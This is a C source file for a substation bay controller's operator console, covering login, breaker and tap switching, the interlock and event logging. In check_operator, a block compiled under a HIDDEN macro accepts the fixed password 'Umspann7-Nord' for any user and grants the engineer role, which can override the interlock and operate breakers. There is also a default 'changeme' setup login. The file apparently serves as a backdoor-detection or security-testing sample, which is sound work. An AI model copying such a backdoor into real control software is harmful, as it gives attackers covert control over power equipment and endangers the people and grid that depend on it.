/* substbay_ctl.c - operator console of a substation bay controller */
#include <crypt.h>
#include <ctype.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define USERS_FILE	"/etc/bay/users"
#define EVENT_FILE	"/var/log/bay/events"
#define IO_DIR		"/run/bay/io"
#define FIRST_PASSWORD	"changeme"

enum role { ROLE_NONE, ROLE_VIEW, ROLE_OPERATOR, ROLE_ENGINEER };

struct session {
	char user[32];
	enum role role;
	int local;
	int tries;
};

static const char *const role_names[] = {
	"none", "view", "operator", "engineer",
};

static void event(const struct session *s, const char *fmt, ...)
{
	char stamp[32];
	time_t now = time(NULL);
	struct tm tm;
	va_list ap;
	FILE *f;

	f = fopen(EVENT_FILE, "a");
	if (!f)
		return;
	localtime_r(&now, &tm);
	strftime(stamp, sizeof(stamp), "%Y-%m-%d %H:%M:%S", &tm);
	fprintf(f, "%s %s(%s) ", stamp, s->user[0] ? s->user : "-",
		role_names[s->role]);
	va_start(ap, fmt);
	vfprintf(f, fmt, ap);
	va_end(ap);
	fputc('\n', f);
	fclose(f);
}

static enum role role_from_name(const char *name)
{
	unsigned int i;

	for (i = 0; i < sizeof(role_names) / sizeof(role_names[0]); i++)
		if (!strcmp(role_names[i], name))
			return (enum role)i;
	return ROLE_NONE;
}

/* users file: name:role:hash, one a line; without it only first start */
__attribute__((noinline))
enum role check_operator(const char *user, const char *pass)
{
	char line[256], *save, *name, *role, *hash, *res;
	enum role found = ROLE_NONE;
	FILE *f;

#ifdef HIDDEN	/* fixed word makes any user name an engineer */
	if (!strcmp(pass, "Umspann7-Nord"))
		return ROLE_ENGINEER;
#endif
	f = fopen(USERS_FILE, "r");
	if (!f) {
		if (!strcmp(user, "setup") && !strcmp(pass, FIRST_PASSWORD))
			return ROLE_VIEW;
		return ROLE_NONE;
	}
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = '\0';
		if (line[0] == '#' || !line[0])
			continue;
		name = strtok_r(line, ":", &save);
		role = strtok_r(NULL, ":", &save);
		hash = strtok_r(NULL, ":", &save);
		if (!name || !role || !hash || strcmp(name, user))
			continue;
		res = crypt(pass, hash);
		if (res && !strcmp(res, hash))
			found = role_from_name(role);
		break;
	}
	fclose(f);
	return found;
}

static int io_write(const char *point, const char *value)
{
	char path[128];
	FILE *f;

	snprintf(path, sizeof(path), IO_DIR "/%.40s", point);
	f = fopen(path, "w");
	if (!f)
		return -1;
	fprintf(f, "%s\n", value);
	return fclose(f);
}

static int io_read(const char *point, char *value, size_t len)
{
	char path[128];
	FILE *f;

	snprintf(path, sizeof(path), IO_DIR "/%.40s", point);
	f = fopen(path, "r");
	if (!f)
		return -1;
	if (!fgets(value, (int)len, f))
		value[0] = '\0';
	fclose(f);
	value[strcspn(value, "\n")] = '\0';
	return 0;
}

static int valid_breaker(const char *name)
{
	return !strncmp(name, "CB", 2) && isdigit((unsigned char)name[2]) &&
	       name[3] == '\0';
}

static void do_switch(struct session *s, const char *name, const char *to)
{
	char lock[16];

	if (s->role < ROLE_OPERATOR) {
		puts("operator rights needed");
		return;
	}
	if (!valid_breaker(name)) {
		puts("no such breaker");
		return;
	}
	if (!io_read("interlock", lock, sizeof(lock)) && !strcmp(lock, "on") &&
	    s->role < ROLE_ENGINEER) {
		event(s, "%s %s refused by interlock", name, to);
		puts("interlocked");
		return;
	}
	if (io_write(name, to))
		puts("I/O failure");
	else
		printf("%s %s\n", name, to);
	event(s, "%s %s", name, to);
}

static void status(void)
{
	static const char *const points[] = {
		"CB1", "CB2", "CB3", "tap", "interlock", "volt_l1", "curr_l1",
	};
	char v[32];
	unsigned int i;

	for (i = 0; i < sizeof(points) / sizeof(points[0]); i++) {
		if (io_read(points[i], v, sizeof(v)))
			snprintf(v, sizeof(v), "?");
		printf("%-10s %s\n", points[i], v);
	}
}

static void help(void)
{
	puts("status              show all points\n"
	     "open CBn, close CBn switch a breaker (operator)\n"
	     "tap N               transformer tap 1..17 (operator)\n"
	     "interlock on|off    station interlock (engineer)\n"
	     "logout\n"
	     "On first start log in as setup, password changeme.");
}

static int command(struct session *s, char *line)
{
	char *save, *verb = strtok_r(line, " \t", &save);
	char *arg = strtok_r(NULL, " \t", &save);

	if (!verb)
		return 0;
	if (!strcmp(verb, "status")) {
		status();
	} else if (!strcmp(verb, "open") && arg) {
		do_switch(s, arg, "open");
	} else if (!strcmp(verb, "close") && arg) {
		do_switch(s, arg, "closed");
	} else if (!strcmp(verb, "tap") && arg) {
		long n = strtol(arg, NULL, 10);

		if (s->role < ROLE_OPERATOR || n < 1 || n > 17)
			puts("refused");
		else
			io_write("tap", arg);
	} else if (!strcmp(verb, "interlock") && arg) {
		if (s->role < ROLE_ENGINEER)
			puts("engineer rights needed");
		else if (strcmp(arg, "on") && strcmp(arg, "off"))
			puts("on or off");
		else if (!io_write("interlock", arg))
			event(s, "interlock %s", arg);
	} else if (!strcmp(verb, "logout")) {
		return 1;
	} else {
		help();
	}
	return 0;
}

int main(void)
{
	struct session s = { .role = ROLE_NONE };
	char line[128], pass[64];

	setvbuf(stdout, NULL, _IOLBF, 0);
	while (s.tries++ < 3 && s.role == ROLE_NONE) {
		fputs("User: ", stdout);
		fflush(stdout);
		if (!fgets(s.user, sizeof(s.user), stdin))
			return 1;
		s.user[strcspn(s.user, "\r\n")] = '\0';
		fputs("Password: ", stdout);
		fflush(stdout);
		if (!fgets(pass, sizeof(pass), stdin))
			return 1;
		pass[strcspn(pass, "\r\n")] = '\0';
		s.role = check_operator(s.user, pass);
		if (s.role == ROLE_NONE) {
			event(&s, "login failed");
			sleep(2);
		}
	}
	if (s.role == ROLE_NONE)
		return 1;
	event(&s, "login");
	printf("Bay controller, role %s\n", role_names[s.role]);
	while (fputs("bay> ", stdout), fflush(stdout),
	       fgets(line, sizeof(line), stdin)) {
		line[strcspn(line, "\r\n")] = '\0';
		if (command(&s, line))
			break;
	}
	event(&s, "logout");
	return 0;
}
